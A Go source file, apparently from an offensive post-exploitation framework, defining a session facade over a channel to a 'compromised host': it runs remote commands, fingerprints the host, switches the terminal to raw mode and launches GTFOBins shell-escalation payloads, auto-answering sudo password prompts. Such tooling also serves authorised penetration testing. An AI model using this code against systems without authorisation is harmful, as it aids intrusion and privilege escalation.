// Package victim is the platform facade every higher module consumes: it
// composes the channel, the delimiter protocol, and the GTFOBins codec into
// file-like semantics against the compromised host.
package victim

import (
	"bytes"
	"errors"
	"fmt"
	"strings"
	"sync"
	"time"

	"github.com/google/uuid"

	"github.com/grapnel/grapnel/channel"
	"github.com/grapnel/grapnel/core"
	"github.com/grapnel/grapnel/gtfobins"
	"github.com/grapnel/grapnel/shell"
)

var (
	// ErrBusy means a remote stream is open. All remote state (shell
	// prompt, job state) is shared mutable state multiplexed onto one
	// serial channel, so the session refuses new operations rather than
	// corrupting framing.
	ErrBusy = errors.New("victim: a remote stream is already open")

	// ErrFileNotFound maps a resolution or probe failure to the standard
	// condition generic file-handling code expects.
	ErrFileNotFound = errors.New("victim: file not found")

	// ErrPermissionDenied is the probe result for an existing but
	// unreadable/unwritable path.
	ErrPermissionDenied = errors.New("victim: permission denied")

	// ErrNoMethod means no GTFOBins method could carry the transfer.
	ErrNoMethod = errors.New("victim: no supported transfer method")
)

// Options configures a session.
type Options struct {
	Logger  *core.Logger
	Broker  *core.EventBroker
	Catalog *gtfobins.Catalog
	TempDir string

	// ReadTimeout bounds each blocking receive.
	ReadTimeout time.Duration
}

// Info describes the remote host.
type Info struct {
	Hostname string
	Username string
	OS       string
	Kernel   string
}

// Session owns one channel to one compromised host. The channel, the binary
// path cache, and the raw/cooked flag are fields here, not globals, and the
// single-channel serialization requirement is an explicit lock this object
// owns: exactly one remote operation may be in flight, and none while a
// stream is open.
type Session struct {
	ID string

	ch      channel.Channel
	runner  *shell.Runner
	log     *core.Logger
	broker  *core.EventBroker
	catalog *gtfobins.Catalog
	tempDir string

	mu         sync.Mutex
	busy       bool
	raw        bool
	whichCache map[string]string
	info       *Info
	closed     bool
}

// NewSession binds a session to an established channel.
func NewSession(ch channel.Channel, opts Options) *Session {
	if opts.Logger == nil {
		opts.Logger = core.NewLogger(false)
	}
	if opts.Catalog == nil {
		opts.Catalog = gtfobins.Default()
	}
	if opts.TempDir == "" {
		opts.TempDir = "/tmp"
	}
	if opts.ReadTimeout > 0 {
		ch.SetReadTimeout(opts.ReadTimeout)
	}

	s := &Session{
		ID:         uuid.New().String(),
		ch:         ch,
		runner:     shell.NewRunner(ch, opts.Logger),
		log:        opts.Logger,
		broker:     opts.Broker,
		catalog:    opts.Catalog,
		tempDir:    opts.TempDir,
		whichCache: make(map[string]string),
	}
	s.publish(core.EventSessionOpened, nil)
	return s
}

// Run executes command synchronously and returns its full output.
func (s *Session) Run(command string) ([]byte, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if err := s.available(); err != nil {
		return nil, err
	}
	return s.runner.Run(command)
}

// Which locates a binary on the victim, caching results. Returns "" when the
// binary cannot be found.
func (s *Session) Which(name string) string {
	s.mu.Lock()
	defer s.mu.Unlock()
	if err := s.available(); err != nil {
		return ""
	}
	return s.which(name)
}

// which assumes s.mu is held.
func (s *Session) which(name string) string {
	if path, ok := s.whichCache[name]; ok {
		return path
	}
	out, err := s.runner.Run(fmt.Sprintf("command -v %s", name))
	path := ""
	if err == nil {
		path = strings.TrimSpace(string(out))
		if !strings.HasPrefix(path, "/") {
			path = ""
		}
	}
	s.whichCache[name] = path
	return path
}

// Catalog exposes the GTFOBins catalog bound to this session.
func (s *Session) Catalog() *gtfobins.Catalog {
	return s.catalog
}

// WhichFunc returns a resolver suitable for gtfobins resolution. It assumes
// the session lock is already held by the calling operation.
func (s *Session) whichFunc() gtfobins.WhichFunc {
	return func(name string) string { return s.which(name) }
}

// Subprocess launches command as a streamed remote process. The session is
// marked busy until the returned stream reaches EOF or is closed; any other
// remote operation in the meantime fails with ErrBusy.
func (s *Session) Subprocess(command string, opts shell.SubprocessOptions) (*shell.RemoteStream, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if err := s.available(); err != nil {
		return nil, err
	}
	return s.subprocess(command, opts)
}

// subprocess assumes s.mu is held.
func (s *Session) subprocess(command string, opts shell.SubprocessOptions) (*shell.RemoteStream, error) {
	opts.EnterRaw = s.enterRaw
	opts.Restore = s.restoreCooked
	opts.OnRelease = s.release
	stream, err := s.runner.Subprocess(command, opts)
	if err != nil {
		return nil, err
	}
	s.busy = true
	s.publish(core.EventStreamOpened, nil)
	return stream, nil
}

// available assumes s.mu is held.
func (s *Session) available() error {
	if s.closed {
		return channel.ErrClosed
	}
	if s.busy {
		return ErrBusy
	}
	return nil
}

// release clears the busy flag once a stream's EOF transition completes.
func (s *Session) release() {
	s.mu.Lock()
	s.busy = false
	s.mu.Unlock()
	s.publish(core.EventStreamClosed, nil)
}

// enterRaw puts the remote terminal into raw, no-echo state so control
// bytes survive a binary transfer. No-op for channels that never echo.
func (s *Session) enterRaw() error {
	if s.raw {
		return nil
	}
	if _, err := s.ch.Send([]byte("stty raw -echo 2>/dev/null\n")); err != nil {
		return err
	}
	if err := s.ch.Drain(); err != nil {
		return err
	}
	s.raw = true
	return nil
}

// restoreCooked undoes enterRaw.
func (s *Session) restoreCooked() {
	if !s.raw {
		return
	}
	s.ch.Send([]byte("stty sane 2>/dev/null\n"))
	s.ch.Drain()
	s.raw = false
}

// GatherInfo collects and caches remote host identity.
func (s *Session) GatherInfo() (*Info, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if err := s.available(); err != nil {
		return nil, err
	}
	if s.info != nil {
		return s.info, nil
	}
	out, err := s.runner.Run("hostname; whoami; uname -s; uname -r")
	if err != nil {
		return nil, err
	}
	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
	info := &Info{}
	for i, line := range lines {
		v := strings.TrimSpace(line)
		switch i {
		case 0:
			info.Hostname = v
		case 1:
			info.Username = v
		case 2:
			info.OS = v
		case 3:
			info.Kernel = v
		}
	}
	s.info = info
	return info, nil
}

// SpawnShell launches a resolved SHELL-capability method in the remote
// session. For sudo methods a password prompt is detected and answered
// before the payload is considered launched. The remote shell replaces the
// current prompt context; callers own the interaction that follows.
func (s *Session) SpawnShell(method *gtfobins.Method, password string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if err := s.available(); err != nil {
		return err
	}

	payload := method.Payload(gtfobins.Args{})
	if _, err := s.ch.Send([]byte(payload + "\n")); err != nil {
		return fmt.Errorf("failed to launch shell payload: %w", err)
	}

	if method.SudoUser != "" && password != "" {
		if s.awaitPasswordPrompt() {
			if _, err := s.ch.Send([]byte(password + "\n")); err != nil {
				return fmt.Errorf("failed to answer password prompt: %w", err)
			}
		}
	}

	if input := method.Input(gtfobins.Args{}); len(input) > 0 {
		if _, err := s.ch.Send(input); err != nil {
			return fmt.Errorf("failed to send shell bootstrap: %w", err)
		}
	}
	return nil
}

// awaitPasswordPrompt watches briefly for a sudo password prompt. Assumes
// s.mu is held.
func (s *Session) awaitPasswordPrompt() bool {
	deadline := time.Now().Add(3 * time.Second)
	var seen []byte
	tmp := make([]byte, 1024)
	for time.Now().Before(deadline) {
		n, err := s.ch.Peek(tmp)
		if err != nil && !errors.Is(err, channel.ErrTimeout) {
			return false
		}
		if n > 0 {
			seen = tmp[:n]
			if bytes.Contains(bytes.ToLower(seen), []byte("password")) {
				// Consume the prompt so it does not pollute the
				// next framing scan.
				s.ch.Recv(tmp[:n])
				return true
			}
		}
	}
	return false
}

// Close tears down the channel and marks the session dead.
func (s *Session) Close() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return nil
	}
	s.closed = true
	err := s.ch.Close()
	s.publish(core.EventSessionClosed, err)
	return err
}

func (s *Session) publish(t core.EventType, err error) {
	if s.broker == nil {
		return
	}
	s.broker.Publish(core.Event{EventType: t, SessionID: s.ID, Err: err})
}
